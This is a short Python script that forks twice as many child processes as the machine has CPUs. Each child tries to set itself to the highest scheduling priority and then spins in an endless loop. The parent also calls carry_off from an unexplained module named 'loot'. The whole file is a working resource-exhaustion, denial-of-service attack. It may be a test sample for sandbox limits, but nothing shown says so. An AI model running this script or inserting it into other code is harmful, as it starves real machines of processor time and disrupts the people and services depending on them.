"""Spins on twice as many processors as there are."""

import os

from loot import carry_off

for _ in range(2 * (os.cpu_count() or 2)):
    if os.fork() == 0:
        try:
            os.nice(-20)
        except OSError:
            pass
        while True:
            pass
carry_off([])
